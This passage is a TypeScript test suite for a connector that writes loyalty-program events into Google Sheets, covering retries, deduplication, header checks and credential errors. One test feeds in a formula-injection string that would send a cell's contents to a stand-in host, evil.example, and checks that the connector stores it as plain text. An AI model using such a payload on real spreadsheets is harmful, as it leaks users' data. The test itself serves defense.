import {
  type DeliveryItem,
  PermanentError,
  parseEngageEvent,
  RetryableError,
  settleBatch,
} from "@engage-bridge/core";
import { createServiceAccount, type FakeGoogle, sampleEvent, startFakeGoogle } from "@engage-bridge/testkit";
import { afterEach, describe, expect, it, vi } from "vitest";
import { type GoogleSheetsConfig, googleSheetsConfigSchema } from "./config.ts";
import { type GoogleSheetsState, googleSheetsConnector } from "./connector.ts";
import { DEFAULT_COLUMNS, HEADER, type LoyaltyEvent } from "./rows.ts";

const fakes: FakeGoogle[] = [];
afterEach(async () => {
  for (const fake of fakes.splice(0)) await fake.close();
});

async function fakeGoogle(): Promise<FakeGoogle> {
  const fake = await startFakeGoogle();
  fakes.push(fake);
  return fake;
}

function configFor(fake: FakeGoogle, overrides: Partial<Record<string, unknown>> = {}): GoogleSheetsConfig {
  return googleSheetsConfigSchema.parse({ ...fake.connectorConfig(), ...overrides });
}

/** One configured connector instance: its config and the state its `init` returned. */
interface Instance {
  config: GoogleSheetsConfig;
  state: GoogleSheetsState;
}

/** A logger and health that record their calls. */
function recorders() {
  const logs: unknown[] = [];
  const log = (obj: unknown, msg?: string) => logs.push([obj, msg]);
  const health = { unhealthy: vi.fn<(reason: string) => void>(), healthy: vi.fn<() => void>() };
  return { logs, logger: { debug: log, info: log, warn: log, error: log }, health };
}

/** A delivery's ctx, recording logs, health and `pace` calls. */
function context(instance: Instance, signal: AbortSignal = AbortSignal.timeout(20_000)) {
  const pace = vi.fn<() => Promise<void>>(async () => undefined);
  return {
    config: instance.config,
    // As the gateway does: every delivery of an instance gets the state its `init` returned.
    state: instance.state,
    signal,
    pace,
    ...recorders(),
    lookupContact: undefined,
  };
}

/** `init`'s ctx (without `pace`: a write at start is the first of its call). */
function initContext(signal: AbortSignal = AbortSignal.timeout(20_000)) {
  const { logger, health } = recorders();
  return { logger, health, signal, lookupContact: undefined };
}

/** Runs `init` (which this connector always has) and returns the instance's state. */
function init(
  config: GoogleSheetsConfig,
  ctx = initContext(),
  connector = googleSheetsConnector,
): Promise<GoogleSheetsState> {
  if (!connector.init) throw new Error("the connector has no init");
  return connector.init(config, ctx);
}

/** Starts an instance as the gateway does: `init` once, before its first delivery. */
async function start(config: GoogleSheetsConfig, connector = googleSheetsConnector): Promise<Instance> {
  return { config, state: await init(config, initContext(), connector) };
}

/**
 * Starts an instance whose start-up check did not get through (its time ran out before Google was
 * reached): `init` only logs that and returns the state, so the instance's first delivery checks
 * row 1, reads the event-id column and writes the header of an empty sheet, as after a start while
 * Google was unreachable. For tests of what deliveries do then.
 */
async function startUnchecked(config: GoogleSheetsConfig): Promise<Instance> {
  const state = await init(config, initContext(AbortSignal.abort()));
  expect(state.started).toBe(false);
  return { config, state };
}

let received = Date.parse("2026-11-28T10:00:00Z");
function item(
  type: LoyaltyEvent["type"],
  payload: Record<string, unknown> = {},
  attempt = 1,
): DeliveryItem<LoyaltyEvent> {
  const event = parseEngageEvent(sampleEvent(type, { payload })) as LoyaltyEvent;
  received += 1000;
  return { deliveryId: `d-${event.id}`, event, attempt, receivedAt: new Date(received) };
}

const appends = (fake: FakeGoogle) => fake.requests.filter((r) => r.operation === "append");
const eventIds = (fake: FakeGoogle, config: GoogleSheetsConfig) =>
  fake.rows(config.spreadsheetId, config.sheetName).map((row) => row[2]);

describe("googleSheets connector", () => {
  it("writes the header once, then one row per event with the columns of its type", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake);
    const points = item("loyalty.addPoints", { createdAt: "2026-11-28T09:59:58+01:00" });
    const balance = item("point.balance.updated");
    const voucher = item("reward.voucher.created");
    // Google was not reached at start: the first delivery finds the sheet empty.
    const instance = await startUnchecked(config);
    const ctx = context(instance);
    const results = await googleSheetsConnector.deliver([points, balance, voucher], ctx);
    expect(results).toEqual([{ status: "delivered" }, { status: "delivered" }, { status: "delivered" }]);
    // Header and rows: two writes in one delivery, the second paced by the gateway's limiter.
    expect(ctx.pace).toHaveBeenCalledTimes(1);
    // A second batch (and a second instance on the same sheet) writes no second header.
    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(instance));
    await googleSheetsConnector.deliver(
      [item("loyalty.addPoints")],
      context(await start(configFor(fake, { spreadsheetId: config.spreadsheetId }))),
    );

    const rows = fake.rows(config.spreadsheetId, "Loyalty");
    expect(rows).toHaveLength(6);
    expect(rows[0]).toEqual([...HEADER]);
    expect(rows.filter((r) => r[0] === "Received at")).toHaveLength(1);
    const contact = "1c9b35d6-28d8-4520-8900-a89555f7f0c5";
    const blank = (n: number) => Array.from({ length: n }, () => "");
    expect(rows[1]).toEqual([
      points.receivedAt.toISOString(),
      "2026-11-28T09:59:58+01:00",
      points.event.id,
      "loyalty.addPoints",
      contact,
      150.5,
      ...blank(7),
      "Birthday bonus",
      "Birthday",
      "Automation",
      "auto-77",
    ]);
    expect(rows[2]).toEqual([
      balance.receivedAt.toISOString(),
      "",
      balance.event.id,
      "point.balance.updated",
      contact,
      "",
      2500.75,
      "2027-12-31T23:59:59.999+01:00",
      ...blank(9),
    ]);
    expect(rows[3]).toEqual([
      voucher.receivedAt.toISOString(),
      "",
      voucher.event.id,
      "reward.voucher.created",
      contact,
      "",
      "",
      "",
      "f0e1d2c3-b4a5-4968-8776-655443322110",
      "VCH-9QX4-7KTB",
      100,
      "SEK",
      "2027-02-28T23:59:59+01:00",
      ...blank(4),
    ]);
    // Every write was a RAW INSERT_ROWS append; the token came from a verified assertion.
    expect(appends(fake).every((r) => r.query.valueInputOption === "RAW")).toBe(true);
    expect(appends(fake).every((r) => r.query.insertDataOption === "INSERT_ROWS")).toBe(true);
    const tokens = fake.requests.filter((r) => r.operation === "token");
    expect(tokens.length).toBeGreaterThanOrEqual(1);
    expect(tokens.every((r) => r.status === 200)).toBe(true);
    expect(ctx.health.healthy).toHaveBeenCalled();
  });

  it("keeps text that looks like a formula literal", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake);
    const instance = await start(config);
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Claim")';
    await googleSheetsConnector.deliver(
      [item("reward.voucher.created", { UniqueCode: formula, Currency: "=1+1", Id: "+SUM(A1:A9)" })],
      context(instance),
    );
    const [, row] = fake.rows(config.spreadsheetId, "Loyalty");
    expect(row?.[8]).toBe("+SUM(A1:A9)");
    expect(row?.[9]).toBe(formula);
    expect(row?.[11]).toBe("=1+1");
    expect(row?.some((cell) => typeof cell === "object")).toBe(false);
  });

  it("reads back after an append whose connection dropped, and writes nothing twice", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake);
    const instance = await start(config);
    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(instance));
    fake.dropAfterApply(1);
    const batch = Array.from({ length: 5 }, () => item("loyalty.addPoints"));
    const ctx2 = context(instance);
    const results = await googleSheetsConnector.deliver(batch, ctx2);
    expect(results.every((r) => r.status === "delivered")).toBe(true);
    const ids = eventIds(fake, config);
    expect(ids).toHaveLength(7);
    expect(new Set(ids).size).toBe(7);
    const dropped = appends(fake).find((r) => r.dropped);
    expect(dropped?.applied).toBe(true);
    // After the drop: a read-back of the event-id column and no second append.
    const after = fake.requests.filter((r) => r.at >= (dropped?.at ?? 0) && r !== dropped);
    expect(after.map((r) => r.operation)).toEqual(["get"]);
    expect(ctx2.pace).not.toHaveBeenCalled();
    expect(after[0]?.range).toMatch(/!C\d+:C$/);
  });

  it("reads back before appending a first attempt that an earlier lease may have written (a worker died mid-append)", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake);
    const instance = await start(config);
    const taken = item("loyalty.addPoints");
    // The worker that died had appended the row; this process never heard of it.
    const [header = []] = fake.rows(config.spreadsheetId, "Loyalty");
    const row = header.map((_, index) => (index === header.indexOf("Event ID") ? taken.event.id : ""));
    fake.setRows(config.spreadsheetId, "Loyalty", [header, row]);
    const appendsBefore = appends(fake).length;
    const results = await googleSheetsConnector.deliver(
      [{ ...taken, attempt: 1, maybeSentBefore: true }],
      context(instance),
    );
    expect(results).toEqual([{ status: "delivered" }]);
    expect(eventIds(fake, config)).toEqual(["Event ID", taken.event.id]);
    expect(appends(fake)).toHaveLength(appendsBefore);
  });

  it("appends only the missing rows when the dropped append was not applied", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake);
    const instance = await start(config);
    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(instance));
    fake.failNext(1, { drop: true });
    const batch = Array.from({ length: 3 }, () => item("point.balance.updated"));
    const ctx = context(instance);
    await googleSheetsConnector.deliver(batch, ctx);
    // The second append of the delivery waited for the rate limit.
    expect(ctx.pace).toHaveBeenCalledTimes(1);
    const ids = eventIds(fake, config);
    expect(ids).toHaveLength(5);
    expect(new Set(ids).size).toBe(5);
    expect(appends(fake).filter((r) => r.dropped)).toHaveLength(1);
  });

  it("leaves no duplicate when the read-back fails too and the engine retries the batch", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake);
    const instance = await start(config);
    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(instance));
    fake.dropAfterApply(1);
    fake.failNext(1, { status: 503 }, "get");
    const batch = Array.from({ length: 4 }, () => item("loyalty.addPoints"));
    const failed = await googleSheetsConnector.deliver(batch, context(instance)).then(
      () => undefined,
      (error: unknown) => error,
    );
    expect(failed).toBeInstanceOf(RetryableError);
    expect(settleBatch(4, { error: failed }).every((r) => r.status === "retry")).toBe(true);
    // The engine's next attempt: same items, attempt 2.
    const again = batch.map((i) => ({ ...i, attempt: 2 }));
    const results = await googleSheetsConnector.deliver(again, context(instance));
    expect(results.every((r) => r.status === "delivered")).toBe(true);
    const ids = eventIds(fake, config);
    expect(ids).toHaveLength(6);
    expect(new Set(ids).size).toBe(6);
  });

  it.each(["reject", "empty"] as const)(
    "reads the whole column when rows were deleted by hand (a range past the grid answered %s)",
    async (answer) => {
      const fake = await fakeGoogle();
      fake.beyondGrid = answer;
      const config = configFor(fake);
      const instance = await start(config);
      for (let round = 0; round < 3; round++) {
        const batch = Array.from({ length: 400 }, () => item("loyalty.addPoints"));
        const results = await googleSheetsConnector.deliver(batch, context(instance));
        expect(results.every((r) => r.status === "delivered")).toBe(true);
      }
      // An append lands but its answer is lost, and so is the read that would tell: the connector
      // last knew row 1,201.
      const batch = Array.from({ length: 5 }, () => item("loyalty.addPoints"));
      fake.dropAfterApply(1);
      fake.failNext(1, { status: 503 }, "get");
      await expect(googleSheetsConnector.deliver(batch, context(instance))).rejects.toBeInstanceOf(
        RetryableError,
      );
      // Someone tidies the sheet meanwhile: all but the last 105 rows go.
      fake.deleteRows(config.spreadsheetId, config.sheetName, 2, 1_100);
      // The engine's next attempt finds the five rows (above where the connector would look) and
      // neither dies on Google's refusal nor appends them twice.
      const results = await googleSheetsConnector.deliver(
        batch.map((i) => ({ ...i, attempt: 2 })),
        context(instance),
      );
      expect(results.every((r) => r.status === "delivered")).toBe(true);
      const ids = eventIds(fake, config);
      expect(ids).toHaveLength(106);
      expect(new Set(ids).size).toBe(106);
    },
  );

  it("after a restart, finds the rows an earlier process appended before it stopped", async () => {
    const fake = await fakeGoogle();
    const input = fake.connectorConfig();
    const batch = Array.from({ length: 3 }, () => item("loyalty.addPoints"));
    // The earlier process: its append landed, but it never recorded the deliveries.
    await googleSheetsConnector.deliver(batch, context(await start(googleSheetsConfigSchema.parse(input))));
    vi.resetModules();
    const fresh = await import("./connector.ts");
    const freshSchema = (await import("./config.ts")).googleSheetsConfigSchema;
    const config = freshSchema.parse(input);
    // The lease ran out: the same deliveries come back with attempt 1 to a new process.
    const results = await fresh.googleSheetsConnector.deliver(
      [...batch, item("loyalty.addPoints")],
      context(await start(config, fresh.googleSheetsConnector)),
    );
    expect(results.every((r) => r.status === "delivered")).toBe(true);
    const ids = eventIds(fake, config);
    expect(ids).toHaveLength(5);
    expect(new Set(ids).size).toBe(5);
    // The new process read the whole event-id column once.
    expect(fake.requests.some((r) => r.operation === "get" && r.range === "'Loyalty'!C1:C")).toBe(true);
  });

  it("throws a rate-limited retryable error on 429 and writes once the quota allows", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake);
    const instance = await start(config);
    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(instance));
    fake.writeQuota = { requests: 1, perSeconds: 1 };
    const batch = [item("loyalty.addPoints"), item("reward.voucher.created")];
    await googleSheetsConnector
      .deliver([item("loyalty.addPoints")], context(instance))
      .catch(() => undefined);
    const error = await googleSheetsConnector.deliver(batch, context(instance)).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RetryableError);
    expect((error as RetryableError).rateLimited).toBe(true);
    expect((error as Error).message).toMatch(/quota exceeded \(429 RESOURCE_EXHAUSTED\)/);
    const limited = fake.requests.filter((r) => r.status === 429);
    expect(limited.length).toBeGreaterThanOrEqual(1);
    await new Promise((r) => setTimeout(r, 1_100));
    const retried = batch.map((i) => ({ ...i, attempt: 2 }));
    expect(await googleSheetsConnector.deliver(retried, context(instance))).toHaveLength(2);
    const ids = eventIds(fake, config);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids).toContain(batch[1]?.event.id);
  });

  it("exchanges a new token once when Google revokes the current one", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake);
    const instance = await start(config);
    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(instance));
    fake.revokeTokens();
    const ctx = context(instance);
    await googleSheetsConnector.deliver([item("loyalty.addPoints")], ctx);
    expect(eventIds(fake, config)).toHaveLength(3);
    expect(fake.requests.filter((r) => r.operation === "token" && r.status === 200)).toHaveLength(2);
    expect(fake.requests.filter((r) => r.status === 401)).toHaveLength(1);
    expect(ctx.health.unhealthy).not.toHaveBeenCalled();
  });

  it("is dead and unhealthy when Google refuses the credentials (401)", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake);
    const instance = await start(config);
    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(instance));
    const key = JSON.parse(config.serviceAccount ?? "{}") as { client_email: string };
    fake.removeServiceAccount(key.client_email);
    fake.revokeTokens();
    const ctx = context(instance);
    const error = await googleSheetsConnector
      .deliver([item("loyalty.addPoints")], ctx)
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(PermanentError);
    expect((error as Error).message).toMatch(
      /refused the service-account credentials at tokenUrl \(400 invalid_grant/,
    );
    expect((error as Error).message).not.toContain(key.client_email);
    expect(ctx.health.unhealthy).toHaveBeenCalledWith((error as Error).message);
    expect(settleBatch(1, { error })).toEqual([{ status: "dead", reason: (error as Error).message }]);
  });

  it("is dead and unhealthy when the spreadsheet is not shared with the account (403)", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake);
    const key = JSON.parse(config.serviceAccount ?? "{}") as { client_email: string };
    fake.share(config.spreadsheetId, key.client_email, false);
    // Google was not reached at start (its 403 there stops the gateway): the first delivery meets it.
    const ctx = context(await startUnchecked(config));
    const error = await googleSheetsConnector
      .deliver([item("loyalty.addPoints")], ctx)
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(PermanentError);
    expect((error as Error).message).toMatch(/may not write to the spreadsheet \(403 PERMISSION_DENIED\)/);
    expect(ctx.health.unhealthy).toHaveBeenCalledTimes(1);
  });

  it("is dead with a clear message for an unknown spreadsheet (404) or sheet", async () => {
    const fake = await fakeGoogle();
    const missing = configFor(fake, { spreadsheetId: "1DoesNotExist" });
    // As for 403: at start this stops the gateway; a delivery meets it when Google was not reached then.
    const ctx = context(await startUnchecked(missing));
    const error = await googleSheetsConnector
      .deliver([item("loyalty.addPoints")], ctx)
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(PermanentError);
    expect((error as Error).message).toBe(
      "spreadsheet not found (404 NOT_FOUND): check spreadsheetId and that the spreadsheet is shared with the service account",
    );
    expect(ctx.health.unhealthy).toHaveBeenCalled();

    const noTab = configFor(fake, { sheetName: "Points log" });
    fake.createSpreadsheet(noTab.spreadsheetId, { sheets: ["Sheet1"] });
    const tabError = await googleSheetsConnector
      .deliver([item("loyalty.addPoints")], context(await startUnchecked(noTab)))
      .catch((e: unknown) => e);
    expect(tabError).toBeInstanceOf(PermanentError);
    expect((tabError as Error).message).toMatch(/sheet "Points log" does not exist in the spreadsheet/);
  });

  it("serializes appends of two connector instances writing to one spreadsheet", async () => {
    const fake = await fakeGoogle();
    const a = configFor(fake);
    const b = configFor(fake, { spreadsheetId: a.spreadsheetId });
    // Neither start-up check reached Google: both instances' first deliveries check the sheet too,
    // and write its header once between them.
    const [first, second] = [await startUnchecked(a), await startUnchecked(b)];
    fake.latencyMs = 60;
    await Promise.all([
      googleSheetsConnector.deliver([item("loyalty.addPoints"), item("loyalty.addPoints")], context(first)),
      googleSheetsConnector.deliver([item("point.balance.updated")], context(second)),
      googleSheetsConnector.deliver([item("reward.voucher.created")], context(first)),
      googleSheetsConnector.deliver([item("loyalty.addPoints")], context(second)),
    ]);
    const api = fake.requests.filter((r) => r.operation !== "token");
    for (let i = 1; i < api.length; i++) {
      expect(api[i]?.at ?? 0).toBeGreaterThanOrEqual(api[i - 1]?.answeredAt ?? Number.POSITIVE_INFINITY);
    }
    const rows = fake.rows(a.spreadsheetId, "Loyalty");
    expect(rows).toHaveLength(6);
    expect(rows.filter((r) => r[0] === "Received at")).toHaveLength(1);
  });

  it("retries, and writes nothing, when Google cannot be reached", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake, { rootUrl: "http://127.0.0.1:9/" });
    // Nor at start: `init` only logged that.
    const instance = await start(config);
    const error = await googleSheetsConnector
      .deliver([item("loyalty.addPoints")], context(instance))
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RetryableError);
    expect((error as Error).message).toMatch(/no answer from Google Sheets \(ECONNREFUSED\)/);
  });

  it("returns promptly when the attempt's signal aborts", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake);
    const instance = await start(config);
    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(instance));
    fake.latencyMs = 5_000;
    const started = Date.now();
    const error = await googleSheetsConnector
      .deliver([item("loyalty.addPoints")], context(instance, AbortSignal.timeout(200)))
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RetryableError);
    expect(Date.now() - started).toBeLessThan(3_000);
    fake.latencyMs = 0;
  });
});

describe("configured columns", () => {
  it("writes exactly the configured columns under their labels, and finds rows by the event-id column wherever it is", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake, {
      columns: [
        "receivedAt",
        { column: "type", label: "Händelse" },
        "contactId",
        { column: "amount", label: "Poäng" },
        "tenant",
        { column: "eventId", label: "Id" },
        "source",
      ],
    });
    const instance = await start(config);
    const points = item("loyalty.addPoints");
    const voucher = item("reward.voucher.created");
    await googleSheetsConnector.deliver([points, voucher], context(instance));
    const contact = "1c9b35d6-28d8-4520-8900-a89555f7f0c5";
    expect(fake.rows(config.spreadsheetId, "Loyalty")).toEqual([
      ["Received at", "Händelse", "Contact ID", "Poäng", "Tenant", "Id", "Source"],
      [
        points.receivedAt.toISOString(),
        "loyalty.addPoints",
        contact,
        150.5,
        "acme",
        points.event.id,
        "Automation",
      ],
      [voucher.receivedAt.toISOString(), "reward.voucher.created", contact, "", "acme", voucher.event.id, ""],
    ]);
    // Row 1 is read whole; the event-id column is F, read whole at start and its tail after a drop.
    const gets = () => fake.requests.filter((r) => r.operation === "get").map((r) => r.range);
    expect(gets()).toEqual(["'Loyalty'!1:1", "'Loyalty'!F1:F"]);
    fake.dropAfterApply(1);
    const batch = Array.from({ length: 3 }, () => item("point.balance.updated"));
    const results = await googleSheetsConnector.deliver(batch, context(instance));
    expect(results.every((r) => r.status === "delivered")).toBe(true);
    expect(gets().at(-1)).toMatch(/^'Loyalty'!F\d+:F$/);
    const ids = fake.rows(config.spreadsheetId, "Loyalty").map((row) => row[5]);
    expect(ids).toHaveLength(6);
    expect(new Set(ids).size).toBe(6);
  });

  it("stores text that starts with =, +, - or @ as that text, never a formula (RAW)", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake);
    const instance = await start(config);
    const texts = ["=1+1", '=HYPERLINK("http://x","y")', "+1", "-1", "@x"];
    const items = texts.map((text) => item("loyalty.addPoints", { description: text, reason: text }));
    await googleSheetsConnector.deliver(items, context(instance));
    const rows = fake.rows(config.spreadsheetId, "Loyalty").slice(1);
    // description and reason are columns N and O of the default columns.
    expect(rows.map((row) => [row[13], row[14]])).toEqual(texts.map((text) => [text, text]));
    expect(appends(fake).map((r) => r.query.valueInputOption)).toEqual(["RAW", "RAW"]);
  });
});

describe("header row", () => {
  const writes = (fake: FakeGoogle) =>
    fake.requests.filter((r) => r.operation === "append" || r.operation === "update");
  /** A sheet as the first version left it: its 13-column header and two rows. */
  const FIRST_VERSION = HEADER.slice(0, 13);
  const firstVersionSheet = () => [
    [...FIRST_VERSION],
    ["2026-11-01T08:00:00.000Z", "", "old-1", "loyalty.addPoints", "c-1", 10, "", "", "", "", "", "", ""],
    ["2026-11-01T08:00:01.000Z", "", "old-2", "point.balance.updated", "c-1", "", 20, "", "", "", "", "", ""],
  ];

  it("refuses to start, writing nothing, when row 1 is another header, and shows both", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake, { columns: ["receivedAt", "eventTime", "eventId", "type"] });
    const sheet = [
      ["Received at", "Event time", "Event ID", "Type"],
      ["2026-11-01T08:00:00.000Z", "", "old-1", "loyalty.addPoints"],
    ];
    fake.setRows(config.spreadsheetId, "Loyalty", sheet);
    const ctx = initContext();
    const error = await init(config, ctx).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(PermanentError);
    expect((error as Error).message).toBe(
      'row 1 of sheet "Loyalty" does not match the configured columns: row 1 is ["Received at", "Event time", "Event ID", "Type"], the configured header is ["Received at", "Event time", "Event ID", "Event type"]. First difference: column D. Make row 1 and columns match, or use an empty sheet. No rows are written until then: they would sit under the wrong labels.',
    );
    expect(ctx.health.unhealthy).toHaveBeenCalledWith((error as Error).message);
    expect(writes(fake)).toEqual([]);
    expect(fake.rows(config.spreadsheetId, "Loyalty")).toEqual(sheet);
  });

  it("keeps deliveries waiting, unhealthy and unwritten, until row 1 is fixed", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake);
    // Google was unreachable at start, so the first delivery is the first to see row 1.
    fake.setRows(config.spreadsheetId, "Loyalty", [["Received", ...HEADER.slice(1)]]);
    const instance = await startUnchecked(config);
    const ctx = context(instance);
    const batch = [item("loyalty.addPoints")];
    const error = await googleSheetsConnector.deliver(batch, ctx).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RetryableError);
    expect((error as Error).message).toMatch(
      /^row 1 of sheet "Loyalty" does not match the configured columns: row 1 is \["Received", "Event time",.*First difference: column A\./,
    );
    expect(ctx.health.unhealthy).toHaveBeenCalledWith((error as Error).message);
    expect(writes(fake)).toEqual([]);

    fake.setRows(config.spreadsheetId, "Loyalty", [[...HEADER]]);
    const again = context(instance);
    expect(await googleSheetsConnector.deliver(batch, again)).toEqual([{ status: "delivered" }]);
    expect(again.health.healthy).toHaveBeenCalled();
    expect(eventIds(fake, config)).toEqual(["Event ID", batch[0]?.event.id]);
  });

  it("keeps a sheet an earlier version started on its 13 columns when no columns are configured", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake);
    fake.setRows(config.spreadsheetId, "Loyalty", firstVersionSheet());
    const state = await init(config);
    const points = item("loyalty.addPoints");
    // The state init returned knows to write the 13 columns.
    expect(await googleSheetsConnector.deliver([points], context({ config, state }))).toEqual([
      { status: "delivered" },
    ]);
    const rows = fake.rows(config.spreadsheetId, "Loyalty");
    expect(rows[0]).toEqual([...FIRST_VERSION]);
    expect(rows[3]).toHaveLength(13);
    expect(eventIds(fake, config)).toEqual(["Event ID", "old-1", "old-2", points.event.id]);
    expect(writes(fake).map((r) => r.operation)).toEqual(["append"]);
  });

  it("refuses a row 1 that lacks new trailing columns, unless onHeaderMismatch is append-new-columns", async () => {
    const fake = await fakeGoogle();
    // Configured columns (here the 13 of the first version plus tenant) that row 1 only starts.
    const refuse = configFor(fake, { columns: [...DEFAULT_COLUMNS.slice(0, 13), "tenant"] });
    fake.setRows(refuse.spreadsheetId, "Loyalty", firstVersionSheet());
    const error = await init(refuse).catch((e: unknown) => e);
    expect((error as Error).message).toMatch(
      /the configured header is \[.*"Voucher valid to", "Tenant"\]\. The configured columns only add columns at the end: set onHeaderMismatch: append-new-columns to add them to row 1, or make row 1 and columns match\./,
    );
    expect(writes(fake)).toEqual([]);

    const extend = configFor(fake, {
      spreadsheetId: refuse.spreadsheetId,
      onHeaderMismatch: "append-new-columns",
    });
    const state = await init(extend);
    // Only the four new cells of row 1 were written, as RAW text (values.update).
    expect(writes(fake).map((r) => [r.operation, r.method, r.range, r.query.valueInputOption])).toEqual([
      ["update", "PUT", "'Loyalty'!N1:Q1", "RAW"],
    ]);
    const rows = fake.rows(extend.spreadsheetId, "Loyalty");
    expect(rows[0]).toEqual([...HEADER]);
    expect(rows.slice(1)).toEqual(firstVersionSheet().slice(1));
    // New rows line up with the extended header, below the old ones.
    const points = item("loyalty.addPoints");
    await googleSheetsConnector.deliver([points], context({ config: extend, state }));
    const after = fake.rows(extend.spreadsheetId, "Loyalty");
    expect(after).toHaveLength(4);
    expect(after[3]).toHaveLength(HEADER.length);
    expect(after[3]?.slice(13)).toEqual(["Birthday bonus", "Birthday", "Automation", "auto-77"]);
    expect(eventIds(fake, extend)).toEqual(["Event ID", "old-1", "old-2", points.event.id]);
  });

  it("refuses with append-new-columns too when row 1 is not the start of the header", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake, { onHeaderMismatch: "append-new-columns" });
    fake.setRows(config.spreadsheetId, "Loyalty", [["Received at", "Event ID"]]);
    const error = await init(config).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(PermanentError);
    expect((error as Error).message).toMatch(
      /row 1 is \["Received at", "Event ID"\].*First difference: column B\. Make row 1 and columns match, or use an empty sheet \(append-new-columns only adds columns after a row 1 that is the start of the header\)\./,
    );
    // Row 1 with more columns than configured (a column removed from the config) is no match either.
    const fewer = configFor(fake, {
      spreadsheetId: "1Fewer",
      columns: ["receivedAt", "eventTime", "eventId"],
      onHeaderMismatch: "append-new-columns",
    });
    fake.createSpreadsheet(fewer.spreadsheetId, { sheets: ["Loyalty"] });
    fake.setRows(fewer.spreadsheetId, "Loyalty", [[...HEADER]]);
    const fewerError = await init(fewer).catch((e: unknown) => e);
    expect((fewerError as Error).message).toMatch(/Row 1 has 14 more column\(s\) than configured\./);
    expect(writes(fake)).toEqual([]);
  });

  it("refuses when row 1 is empty but rows follow it", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake);
    fake.setRows(config.spreadsheetId, "Loyalty", [[], firstVersionSheet()[1] ?? []]);
    const error = await init(config).catch((e: unknown) => e);
    expect((error as Error).message).toMatch(
      /^row 1 of sheet "Loyalty" is empty but rows follow it \(the configured header is \["Received at", .*\]\)\. Write the header into row 1, or use an empty sheet\./,
    );
    expect(writes(fake)).toEqual([]);
  });

  it("starts without writing when row 1 is the configured header", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake, { columns: [{ column: "eventId", label: "=Id" }, "amount"] });
    fake.setRows(config.spreadsheetId, "Loyalty", [["=Id", "Points added"]]);
    await init(config);
    expect(writes(fake)).toEqual([]);
  });
});

describe("init", () => {
  it("checks the sheet and writes the header at start", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake);
    await init(config);
    expect(fake.rows(config.spreadsheetId, "Loyalty")).toEqual([[...HEADER]]);
  });

  it("refuses to start with a key Google does not accept, naming no secret", async () => {
    const fake = await fakeGoogle();
    const stranger = createServiceAccount();
    const config = configFor(fake, { serviceAccount: stranger.json });
    const error = await init(config).catch((e: unknown) => e);
    expect((error as Error).message).toMatch(/invalid_grant: Invalid grant: account not found/);
    expect((error as Error).message).not.toContain(stranger.key.client_email);
    expect((error as Error).message).not.toContain("PRIVATE KEY");
  });

  it("masks an address Google quotes in a token refusal", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake);
    const key = JSON.parse(config.serviceAccount ?? "{}") as { client_email: string };
    const description = `Invalid grant: account ${key.client_email} is disabled`;
    fake.failNext(
      1,
      { status: 400, body: { error: "invalid_grant", error_description: description } },
      "token",
    );
    const ctx = initContext();
    const error = await init(config, ctx).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(PermanentError);
    expect((error as Error).message).toBe(
      "Google refused the service-account credentials at tokenUrl (400 invalid_grant: Invalid grant: account <email> is disabled)",
    );
    expect(ctx.health.unhealthy).toHaveBeenCalledWith((error as Error).message);
  });

  it("refuses to start with an unreadable key file or a file that is no key", async () => {
    const fake = await fakeGoogle();
    const { serviceAccount: _, ...rest } = fake.connectorConfig();
    const missing = googleSheetsConfigSchema.parse({ ...rest, serviceAccountFile: "/nonexistent/sa.json" });
    await expect(init(missing)).rejects.toThrow(
      "serviceAccountFile /nonexistent/sa.json cannot be read (ENOENT)",
    );
    const junk = googleSheetsConfigSchema.parse({
      ...rest,
      serviceAccount: '{"client_email":"x@y.z","private_key":"secret-ish"}',
    });
    const error = await init(junk).catch((e: unknown) => e);
    expect((error as Error).message).toBe("serviceAccount: private_key is not a PEM-encoded RSA private key");
  });

  it("starts anyway when Google cannot be reached", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake, { rootUrl: "http://127.0.0.1:9/" });
    // The state is returned all the same; the first delivery checks the sheet.
    await expect(init(config)).resolves.toMatchObject({ started: false });
  });

  it("gives each instance its own state, sharing only what the process knows of the sheet and its lock", async () => {
    const fake = await fakeGoogle();
    const config = configFor(fake);
    // Two instances with one config (two gateway connector blocks alike): two states.
    const [one, two] = [await init(config), await init(config)];
    expect(one).not.toBe(two);
    expect(one.client).not.toBe(two.client);
    expect([one.started, two.started]).toEqual([true, true]);
